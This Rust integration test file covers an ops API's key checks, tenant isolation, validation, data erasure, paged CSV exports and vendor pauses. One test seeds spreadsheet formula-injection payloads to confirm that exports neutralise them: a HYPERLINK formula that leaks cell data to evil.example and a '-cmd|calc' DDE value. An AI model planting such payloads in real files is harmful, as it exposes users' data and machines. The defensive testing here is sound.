//! The ops API through the local gateway on real PostgreSQL: keys (none, wrong, revoked → 401),
//! tenant isolation, every endpoint, validation, erasure, and paged CSV exports of 100k rows.

use leadfactory_cli::local::{LocalPipeline, NoProgress};
use serde_json::{Value, json};
use shared::bus::Queue;
use testkit::TestDb;

struct Fixture {
    db: TestDb,
    p: LocalPipeline,
    key: String,
    c: reqwest::Client,
    _store: tempfile::TempDir,
}

async fn fixture(run: bool) -> Fixture {
    let db = TestDb::new().await;
    let store = tempfile::tempdir().unwrap();
    let p = testkit::local_pipeline(&db, store.path(), |o| o.buy_share = 1.0).await;
    if run {
        p.run(&NoProgress).await.unwrap();
        p.simulate_recipients(&NoProgress).await.unwrap();
        let today = chrono::Utc::now().date_naive();
        shared::analytics::rollup(&p.deps.pool, today - chrono::Duration::days(1), today)
            .await
            .unwrap();
    }
    let key = ops_api::keys::create(&p.deps.pool, p.tenant, "test")
        .await
        .unwrap()
        .key;
    Fixture {
        db,
        p,
        key,
        c: reqwest::Client::new(),
        _store: store,
    }
}

impl Fixture {
    async fn call(
        &self,
        method: &str,
        path: &str,
        key: Option<&str>,
        body: Option<Value>,
    ) -> (u16, reqwest::header::HeaderMap, String) {
        let mut r = self.c.request(
            method.parse().unwrap(),
            format!("{}{path}", self.p.gateway_url),
        );
        if let Some(k) = key {
            r = r.bearer_auth(k);
        }
        if let Some(b) = body {
            r = r.json(&b);
        }
        let resp = r.send().await.unwrap();
        let status = resp.status().as_u16();
        let headers = resp.headers().clone();
        (status, headers, resp.text().await.unwrap())
    }

    /// An API key of a second tenant, Agency B.
    async fn second_tenant_key(&self) -> String {
        let tenant_b = uuid::Uuid::new_v4();
        self.db
            .admin()
            .await
            .execute(
                "INSERT INTO tenants (id, name) VALUES ($1, 'Agency B')",
                &[&tenant_b],
            )
            .await
            .unwrap();
        ops_api::keys::create(
            &self.p.deps.pool,
            shared::domain::TenantId::from_uuid(tenant_b),
            "b",
        )
        .await
        .unwrap()
        .key
    }

    async fn get(&self, path: &str) -> Value {
        let (s, _, b) = self.call("GET", path, Some(&self.key), None).await;
        assert_eq!(s, 200, "{path}: {b}");
        serde_json::from_str(&b).unwrap()
    }
}

fn campaign_json() -> Value {
    json!({
        "name": "Austin dentists", "vertical": "dentists", "zip_codes": ["78701"], "daily_quota": 40,
        "sender": { "email": "ann@agency.example.com", "name": "Ann", "postal_address": "1 Congress Ave, Austin, TX 78701" }
    })
}

#[tokio::test]
async fn keys_are_required_checked_and_revocable_and_tenants_see_only_their_own() {
    let f = fixture(false).await;
    // No key, a malformed one, a well-formed wrong one: 401, with a reason.
    for key in [
        None,
        Some("nonsense"),
        Some(&*format!("lf_0123456789ab_{}", "x".repeat(43))),
    ] {
        let (s, _, b) = f.call("GET", "/v1/health", key, None).await;
        assert_eq!(s, 401, "{key:?}: {b}");
        assert!(b.contains("API key"));
    }
    // The right prefix with a wrong secret.
    let prefix = &f.key[..16];
    let (s, _, _) = f
        .call(
            "GET",
            "/v1/health",
            Some(&format!("{prefix}{}", "y".repeat(43))),
            None,
        )
        .await;
    assert_eq!(s, 401);
    let h = f.get("/v1/health").await;
    assert_eq!((&h["status"], &h["database"]), (&json!("ok"), &json!("ok")));
    for q in ops_api::wired_queues() {
        assert!(h["queues"][&q]["visible"].is_u64(), "{q}: {h}");
        assert!(h["queues"][&q]["in_flight"].is_u64(), "{q}: {h}");
    }

    // Tenant B's key sees none of tenant A's campaigns, and cannot change them.
    let (s, _, b) = f
        .call("POST", "/v1/campaigns", Some(&f.key), Some(campaign_json()))
        .await;
    assert_eq!(s, 201, "{b}");
    let id = serde_json::from_str::<Value>(&b).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let admin = f.db.admin().await;
    let key_b = f.second_tenant_key().await;
    let (s, _, b) = f.call("GET", "/v1/campaigns", Some(&key_b), None).await;
    assert_eq!(s, 200);
    assert_eq!(
        serde_json::from_str::<Value>(&b).unwrap()["campaigns"],
        json!([])
    );
    let (s, _, _) = f
        .call(
            "PUT",
            &format!("/v1/campaigns/{id}"),
            Some(&key_b),
            Some(campaign_json()),
        )
        .await;
    assert_eq!(s, 404, "B cannot update A's campaign");
    let (s, _, b) = f
        .call("GET", "/v1/exports/leads.csv", Some(&key_b), None)
        .await;
    assert_eq!(
        (s, b.as_str()),
        (200, ""),
        "B's export of A's data is empty"
    );

    // Revoked: 401 from then on; rotated: the old key stops, the new one works.
    let keys = ops_api::keys::list(&f.p.deps.pool, f.p.tenant)
        .await
        .unwrap();
    let key_id = uuid::Uuid::parse_str(keys[0]["id"].as_str().unwrap()).unwrap();
    let new = ops_api::keys::rotate(&f.p.deps.pool, f.p.tenant, key_id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(f.call("GET", "/v1/health", Some(&f.key), None).await.0, 401);
    assert_eq!(
        f.call("GET", "/v1/health", Some(&new.key), None).await.0,
        200
    );
    assert!(
        ops_api::keys::revoke(&f.p.deps.pool, f.p.tenant, new.id)
            .await
            .unwrap()
    );
    assert_eq!(
        f.call("GET", "/v1/health", Some(&new.key), None).await.0,
        401
    );
    // Keys are stored hashed: the secret is nowhere in the table.
    let secret = new.key.rsplit('_').next().unwrap().to_owned();
    let found: i64 = admin
        .query_one(
            "SELECT count(*) FROM api_keys k WHERE k::text LIKE '%' || $1 || '%'",
            &[&secret],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(found, 0);
}

#[tokio::test]
async fn every_endpoint_answers_and_bad_input_gets_a_reason() {
    let f = fixture(true).await;
    let runs = f.get("/v1/runs").await;
    let run = runs["runs"][0]["id"].as_str().unwrap().to_owned();
    let detail = f.get(&format!("/v1/runs/{run}")).await;
    assert!(
        detail["stages"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["stage"] == "delivery" && s["p95_ms"].is_number())
    );
    assert!(detail["cost_micros"].as_i64().unwrap() > 0);
    let campaigns = f.get("/v1/campaigns").await;
    let cid = campaigns["campaigns"][0]["id"].as_str().unwrap().to_owned();
    let funnel = f.get(&format!("/v1/campaigns/{cid}/funnel")).await;
    assert!(funnel["funnel"]["emailed"].as_i64().unwrap() > 0);
    assert!(funnel["funnel"]["purchased"].as_i64().unwrap() > 0);
    let ex = f.get("/v1/experiments").await;
    assert_eq!(ex["variants"].as_array().unwrap().len(), 2);
    let tiers = f.get("/v1/costs/tiers").await;
    assert!(!tiers["tiers"].as_array().unwrap().is_empty());

    // Validation names the field; nothing is written.
    let mut bad = campaign_json();
    bad["zip_codes"] = json!(["7870"]);
    let (s, _, b) = f
        .call("POST", "/v1/campaigns", Some(&f.key), Some(bad))
        .await;
    assert_eq!(s, 400);
    assert!(b.contains("zip_codes"), "{b}");
    let mut bad = campaign_json();
    bad["colour"] = json!("red");
    let (s, _, b) = f
        .call("POST", "/v1/campaigns", Some(&f.key), Some(bad))
        .await;
    assert_eq!(s, 400);
    assert!(b.contains("colour"), "{b}");
    // Update, then pause.
    let mut upd = campaign_json();
    upd["name"] = json!("San Jose restaurants");
    upd["zip_codes"] = json!(["95113", "95112"]);
    upd["status"] = json!("paused");
    let (s, _, b) = f
        .call(
            "PUT",
            &format!("/v1/campaigns/{cid}"),
            Some(&f.key),
            Some(upd),
        )
        .await;
    assert_eq!(s, 200, "{b}");
    let c = f.get("/v1/campaigns").await;
    assert_eq!(c["campaigns"][0]["status"], "paused");
    assert_eq!(c["campaigns"][0]["zip_codes"], json!(["95113", "95112"]));
    for (m, p, status) in [
        ("GET", "/v1/runs/not-a-uuid", 400),
        ("GET", &*format!("/v1/runs/{}", uuid::Uuid::new_v4()), 404),
        ("GET", "/v1/exports/secrets.csv", 404),
        ("GET", "/v1/exports/leads.csv?from=yesterday", 400),
        ("GET", "/v1/exports/leads.csv?after=42", 400),
        ("DELETE", "/v1/runs", 405),
        ("GET", "/v1/nothing", 404),
    ] {
        let (s, _, b) = f.call(m, p, Some(&f.key), None).await;
        assert_eq!(s, status, "{m} {p}: {b}");
        assert!(serde_json::from_str::<Value>(&b).unwrap()["error"].is_string());
    }
    let (s, _, b) = f
        .call("POST", "/v1/erasure", Some(&f.key), Some(json!({})))
        .await;
    assert_eq!(s, 400, "{b}");

    // Erasure through the API.
    let admin = f.db.admin().await;
    let addr: String = admin
        .query_one(
            "SELECT to_email FROM emails WHERE kind = 'outreach' ORDER BY id LIMIT 1",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    // An access request first: what is held about the address, then nothing changed.
    let (s, _, b) = f
        .call(
            "POST",
            "/v1/subject-export",
            Some(&f.key),
            Some(json!({ "email": addr })),
        )
        .await;
    assert_eq!(s, 200, "{b}");
    let held: Value = serde_json::from_str(&b).unwrap();
    assert_eq!(held["email"], addr.to_lowercase());
    assert!(
        !held["tables"]["emails"].as_array().unwrap().is_empty(),
        "{held}"
    );
    assert_eq!(held["tables"]["emails"][0]["to_email"], addr);
    for (m, body, status) in [
        ("POST", Some(json!({ "email": "not an address" })), 400),
        ("POST", Some(json!({ "email": addr, "more": 1 })), 400),
        ("GET", None, 405),
    ] {
        let (s, _, b) = f.call(m, "/v1/subject-export", Some(&f.key), body).await;
        assert_eq!(s, status, "{m}: {b}");
    }
    let (s, _, b) = f
        .call(
            "POST",
            "/v1/erasure",
            Some(&f.key),
            Some(json!({ "email": addr })),
        )
        .await;
    assert_eq!(s, 200, "{b}");
    let left: i64 = admin
        .query_one("SELECT count(*) FROM emails WHERE to_email = $1", &[&addr])
        .await
        .unwrap()
        .get(0);
    assert_eq!(left, 0);

    // Exports: header plus rows, dates filter.
    let (s, h, csv) = f
        .call("GET", "/v1/exports/emails.csv", Some(&f.key), None)
        .await;
    assert_eq!(s, 200);
    assert_eq!(h["content-type"], "text/csv; charset=utf-8");
    let emails: i64 = admin
        .query_one("SELECT count(*) FROM emails", &[])
        .await
        .unwrap()
        .get(0);
    assert_eq!(csv.lines().count() as i64, emails + 1);
    assert!(csv.starts_with("id,kind,campaign_id,business_id,to_email,subject,variant,send_state"));
    let (_, _, none) = f
        .call(
            "GET",
            "/v1/exports/purchases.csv?from=2000-01-01&to=2000-12-31",
            Some(&f.key),
            None,
        )
        .await;
    assert_eq!(none, "");
    let (_, _, costs) = f
        .call("GET", "/v1/exports/costs.csv", Some(&f.key), None)
        .await;
    assert!(costs.lines().count() > 10);
}

#[tokio::test]
async fn a_100k_row_export_comes_in_bounded_pages_that_add_up() {
    let f = fixture(false).await;
    let admin = f.db.admin().await;
    admin
        .execute(
            "INSERT INTO cost_ledger (tenant_id, vendor, endpoint, cost_micros) SELECT $1, 'places', 'textsearch', i FROM generate_series(1, 100000) i",
            &[&f.p.tenant.as_uuid()],
        )
        .await
        .unwrap();
    let mut after: Option<String> = None;
    let (mut rows, mut pages, mut sum, mut largest) = (0usize, 0usize, 0i64, 0usize);
    loop {
        let path = match &after {
            Some(a) => format!("/v1/exports/costs.csv?limit=20000&after={a}"),
            None => "/v1/exports/costs.csv?limit=20000".to_owned(),
        };
        let (s, h, csv) = f.call("GET", &path, Some(&f.key), None).await;
        assert_eq!(s, 200);
        pages += 1;
        largest = largest.max(csv.len());
        let mut r = csv::Reader::from_reader(csv.as_bytes());
        for rec in r.records() {
            let rec = rec.unwrap();
            sum += rec[9].parse::<i64>().unwrap();
            rows += 1;
        }
        match h.get("x-next-after") {
            Some(a) => after = Some(a.to_str().unwrap().to_owned()),
            None => break,
        }
    }
    assert_eq!(rows, 100_000);
    assert_eq!(sum, 100_000 * 100_001 / 2, "every row exactly once");
    assert_eq!(pages, 6, "five full pages and an empty last one");
    // A page is bounded by its row limit, not by the table: ~20k short rows.
    assert!(largest < 4 * 1024 * 1024, "{largest}");
    // Asking for more than the maximum page is refused with the bounds (not silently clamped).
    let (s, _, b) = f
        .call(
            "GET",
            "/v1/exports/costs.csv?limit=1000000",
            Some(&f.key),
            None,
        )
        .await;
    assert_eq!(s, 400, "{b}");
    assert!(b.contains(&format!("1 to {}", ops_api::MAX_PAGE)), "{b}");
}

#[tokio::test]
async fn health_names_every_queue_it_cannot_read_instead_of_leaving_it_out() {
    let f = fixture(false).await;
    // A deployment whose function can read only the sourcing queue (a missing URL or grant).
    let bus = shared::bus::MemoryBus::new(shared::bus::QueueSpec::with_dlq(
        Queue::Sourcing.name(),
        std::time::Duration::from_secs(30),
        3,
    ));
    let api = ops_api::OpsApi {
        pool: f.p.deps.pool.clone(),
        bus: std::sync::Arc::new(bus),
        store: f.p.deps.store.clone(),
        queues: ops_api::wired_queues(),
    };
    let mut req = aws_lambda_events::event::apigw::ApiGatewayV2httpRequest::default();
    req.raw_path = Some("/v1/health".into());
    req.request_context.http.method = http::Method::GET;
    req.headers.insert(
        "authorization",
        format!("Bearer {}", f.key).parse().unwrap(),
    );
    let resp = api.handler(req).await;
    assert_eq!(resp.status_code, 200);
    let body = match resp.body {
        Some(aws_lambda_events::encodings::Body::Text(t)) => t,
        other => panic!("{other:?}"),
    };
    let h: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(h["status"], "degraded", "{h}");
    assert!(h["queues"]["sourcing"]["visible"].is_u64(), "{h}");
    assert!(h["queues"]["sourcing-dlq"]["visible"].is_u64(), "{h}");
    for q in ops_api::wired_queues()
        .into_iter()
        .filter(|q| !q.starts_with("sourcing"))
    {
        let error = h["queues"][&q]["error"].as_str().unwrap_or_default();
        assert!(error.contains(&q), "{q} is reported with its error: {h}");
    }
}

#[tokio::test]
async fn a_purchase_is_sent_again_once_per_request_key_with_a_new_link() {
    let f = fixture(true).await;
    let admin = f.db.admin().await;
    let purchase: uuid::Uuid = admin
        .query_one(
            "SELECT id FROM purchases WHERE status = 'paid' AND fulfilled_at IS NOT NULL LIMIT 1",
            &[],
        )
        .await
        .expect("a fulfilled purchase")
        .get(0);
    let fulfilments = |p: &LocalPipeline| -> Vec<sim::state::OutboxMail> {
        p.sim
            .state
            .outbox
            .lock()
            .unwrap()
            .iter()
            .filter(|m| {
                m.custom_args.get("purchase_id").and_then(Value::as_str)
                    == Some(&purchase.to_string())
            })
            .cloned()
            .collect()
    };
    assert_eq!(fulfilments(&f.p).len(), 1);
    let resend = |key: Option<&'static str>, id: String| {
        let f = &f;
        async move {
            let mut r =
                f.c.post(format!("{}/v1/purchases/{id}/resend", f.p.gateway_url))
                    .bearer_auth(&f.key);
            if let Some(k) = key {
                r = r.header("idempotency-key", k);
            }
            let resp = r.send().await.unwrap();
            (resp.status().as_u16(), resp.text().await.unwrap())
        }
    };
    // Twice with one key (a retried request), then with another.
    for _ in 0..2 {
        let (s, b) = resend(Some("ticket-4711"), purchase.to_string()).await;
        assert_eq!(s, 202, "{b}");
        assert_eq!(
            serde_json::from_str::<Value>(&b).unwrap()["request_key"],
            "ticket-4711"
        );
    }
    f.p.settle().await.unwrap();
    let sent = fulfilments(&f.p);
    assert_eq!(sent.len(), 2, "one resend for one key");
    let link = |m: &sim::state::OutboxMail| {
        m.text
            .as_deref()
            .unwrap()
            .split_whitespace()
            .find(|w| w.contains("/d/"))
            .unwrap()
            .to_owned()
    };
    // The link is signed afresh at send time (its 7 days start now; the token is the same
    // only when both are signed in the same second).
    assert_eq!(sent[1].custom_args["request_key"], "ticket-4711");
    assert_eq!(f.c.get(link(&sent[1])).send().await.unwrap().status(), 200);
    let (s, _) = resend(Some("ticket-4712"), purchase.to_string()).await;
    assert_eq!(s, 202);
    f.p.settle().await.unwrap();
    assert_eq!(fulfilments(&f.p).len(), 3);
    // Refusals, each with its reason.
    assert_eq!(resend(None, purchase.to_string()).await.0, 400, "no key");
    assert_eq!(
        resend(Some("a b"), purchase.to_string()).await.0,
        400,
        "bad key"
    );
    assert_eq!(
        resend(Some("k"), uuid::Uuid::new_v4().to_string()).await.0,
        404
    );
    admin
        .execute(
            "UPDATE purchases SET dispute_status = 'open' WHERE id = $1",
            &[&purchase],
        )
        .await
        .unwrap();
    let (s, b) = resend(Some("ticket-4713"), purchase.to_string()).await;
    assert_eq!(s, 409, "{b}");
    assert!(b.contains("disputed"), "{b}");
    // Another tenant's key cannot find it.
    let key_b = f.second_tenant_key().await;
    let other =
        f.c.post(format!(
            "{}/v1/purchases/{purchase}/resend",
            f.p.gateway_url
        ))
        .bearer_auth(&key_b)
        .header("idempotency-key", "x")
        .send()
        .await
        .unwrap();
    assert_eq!(other.status().as_u16(), 404);
}

#[tokio::test]
async fn exports_are_safe_to_open_and_every_page_fits_a_lambda_response() {
    let f = fixture(false).await;
    // 3,000 businesses whose names are long and hostile: a formula, quotes and control
    // characters (each JSON-escapes to more bytes), and 100 KB names.
    f.db.admin()
        .await
        .execute(
            "INSERT INTO businesses (id, tenant_id, name, name_norm, website_url, email)
             SELECT gen_random_uuid(), $1,
                    CASE WHEN i % 3 = 0 THEN '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")' || repeat('\"', 2000)
                         WHEN i % 3 = 1 THEN '@SUM(1+1)' || repeat(chr(1), 2000)
                         ELSE repeat('x', 100000) END,
                    'n' || i, '-cmd|calc', '+1@x.example'
             FROM generate_series(1, 3000) i",
            &[&f.p.tenant.as_uuid()],
        )
        .await
        .unwrap();
    let (mut after, mut rows, mut pages) = (None::<String>, 0, 0);
    loop {
        let path = match &after {
            Some(a) => format!("/v1/exports/leads.csv?limit=5000&after={a}"),
            None => "/v1/exports/leads.csv?limit=5000".to_owned(),
        };
        let (s, h, csv) = f.call("GET", &path, Some(&f.key), None).await;
        assert_eq!(s, 200);
        pages += 1;
        // What the function returns is this body inside a JSON document.
        let as_json = serde_json::to_string(&csv).unwrap().len();
        assert!(
            as_json < 6 * 1024 * 1024,
            "page {pages}: {as_json} bytes as JSON"
        );
        let mut r = csv::Reader::from_reader(csv.as_bytes());
        for rec in r.records() {
            let rec = rec.unwrap();
            for cell in rec.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet would run: {:?}",
                    &cell[..cell.len().min(40)]
                );
            }
            assert!(rec[1].chars().count() <= ops_api::MAX_CELL_CHARS + 10);
            rows += 1;
        }
        match h.get("x-next-after") {
            Some(a) => after = Some(a.to_str().unwrap().to_owned()),
            None => break,
        }
    }
    assert_eq!(rows, 3000, "every row once, in {pages} pages");
    assert!(
        pages > 1,
        "the size bound, not the row limit, cut the pages"
    );
}

#[tokio::test]
async fn a_tenant_pauses_and_resumes_a_vendor_for_its_own_work_and_sees_the_operators_pauses() {
    let f = fixture(false).await;
    let key = Some(f.key.as_str());
    let (status, _, body) = f
        .call(
            "POST",
            "/v1/vendors/places/pause",
            key,
            Some(json!({ "reason": "Places quota incident", "minutes": 90 })),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let p: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        (p["vendor"].as_str(), p["scope"].as_str()),
        (Some("places"), Some("tenant"))
    );
    let until: chrono::DateTime<chrono::Utc> = p["until"].as_str().unwrap().parse().unwrap();
    let left = until - chrono::Utc::now();
    assert!(left > chrono::Duration::minutes(89) && left <= chrono::Duration::minutes(90));

    // Pausing again changes the reason and end of the one pause (no second one).
    let (status, _, _) = f
        .call(
            "POST",
            "/v1/vendors/places/pause",
            key,
            Some(json!({ "reason": "still down" })),
        )
        .await;
    assert_eq!(status, 200);
    // The operator's pause for every tenant (as the CLI makes it) shows too, as `all`.
    // (The CLI's owner role is drilled in the cloud test; here the local superuser stands in.)
    let mut admin = f.db.admin().await;
    let tx = admin.transaction().await.unwrap();
    shared::vendors::pauses::pause(
        &tx,
        shared::vendors::Vendor::Yelp,
        None,
        "fleet drill",
        None,
        "cli:ops",
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let (status, _, body) = f.call("GET", "/v1/vendors/pauses", key, None).await;
    assert_eq!(status, 200, "{body}");
    let list: Value = serde_json::from_str(&body).unwrap();
    let seen: Vec<(String, String, String, bool)> = list["pauses"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["vendor"].as_str().unwrap().to_owned(),
                p["scope"].as_str().unwrap().to_owned(),
                p["reason"].as_str().unwrap().to_owned(),
                p["until"].is_null(),
            )
        })
        .collect();
    assert_eq!(
        seen,
        vec![
            ("places".into(), "tenant".into(), "still down".into(), true),
            ("yelp".into(), "all".into(), "fleet drill".into(), true),
        ]
    );
    // Another tenant sees the fleet's pause, not this tenant's.
    let other = f.second_tenant_key().await;
    let (_, _, body) = f
        .call("GET", "/v1/vendors/pauses", Some(&other), None)
        .await;
    let theirs: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(theirs["pauses"].as_array().unwrap().len(), 1, "{theirs}");
    assert_eq!(theirs["pauses"][0]["vendor"], "yelp");

    // A tenant ends its own pause, not the operator's, and a second resume finds nothing.
    let (status, _, body) = f.call("POST", "/v1/vendors/places/resume", key, None).await;
    assert_eq!(status, 200, "{body}");
    let (status, _, body) = f.call("POST", "/v1/vendors/places/resume", key, None).await;
    assert_eq!(status, 404, "{body}");
    let (status, _, body) = f.call("POST", "/v1/vendors/yelp/resume", key, None).await;
    assert_eq!(status, 404, "{body}");
    assert!(body.contains("operator"), "{body}");

    // Bad input gets a 400 naming what is wrong.
    for (path, body, names) in [
        (
            "/v1/vendors/twilio/pause",
            json!({ "reason": "x" }),
            "vendor",
        ),
        (
            "/v1/vendors/places/pause",
            json!({ "reason": " \t" }),
            "reason",
        ),
        (
            "/v1/vendors/places/pause",
            json!({ "reason": "a\u{0}b" }),
            "reason",
        ),
        (
            "/v1/vendors/places/pause",
            json!({ "reason": "x", "minutes": 0 }),
            "minutes",
        ),
        (
            "/v1/vendors/places/pause",
            json!({ "reason": "x", "minutes": 1.5 }),
            "minutes",
        ),
        (
            "/v1/vendors/places/pause",
            json!({ "reason": "x", "minutes": null }),
            "minutes",
        ),
        ("/v1/vendors/places/pause", json!({ "why": "x" }), "why"),
    ] {
        let (status, _, text) = f.call("POST", path, key, Some(body.clone())).await;
        assert_eq!(status, 400, "{path} {body}: {text}");
        assert!(text.contains(names), "{path} {body}: {text}");
    }
    let (status, _, _) = f.call("GET", "/v1/vendors/places/pause", key, None).await;
    assert_eq!(status, 405);
}

#[tokio::test]
async fn a_purchase_paid_events_consumer_reads_the_buyer_through_the_api() {
    let f = fixture(true).await;
    // The Stripe webhook behind the gateway published each paid purchase.
    let paid: Vec<Value> =
        f.p.events
            .published()
            .into_iter()
            .filter(|e| e["detail-type"] == "PurchasePaid")
            .map(|e| e["detail"].clone())
            .collect();
    assert!(!paid.is_empty(), "no PurchasePaid published");
    let event = &paid[0];
    let id = event["purchase_id"].as_str().unwrap();
    let get = |key: String, id: String| {
        let f = &f;
        async move {
            let resp =
                f.c.get(format!("{}/v1/purchases/{id}", f.p.gateway_url))
                    .bearer_auth(key)
                    .send()
                    .await
                    .unwrap();
            (resp.status().as_u16(), resp.text().await.unwrap())
        }
    };
    let (s, b) = get(f.key.clone(), id.to_owned()).await;
    assert_eq!(s, 200, "{b}");
    let p: Value = serde_json::from_str(&b).unwrap();
    assert_eq!(p["id"], event["purchase_id"]);
    assert_eq!(p["amount_cents"], event["amount_cents"]);
    assert_eq!(p["report_id"], event["report_id"]);
    assert_eq!(p["status"], "paid");
    assert!(
        p["customer_email"]
            .as_str()
            .is_some_and(|e| e.contains('@')),
        "{p}"
    );
    assert_eq!(get(f.key.clone(), "nope".into()).await.0, 400);
    assert_eq!(
        get(f.key.clone(), uuid::Uuid::new_v4().to_string()).await.0,
        404
    );
    let key_b = f.second_tenant_key().await;
    assert_eq!(
        get(key_b, id.to_owned()).await.0,
        404,
        "another tenant's purchase"
    );
}
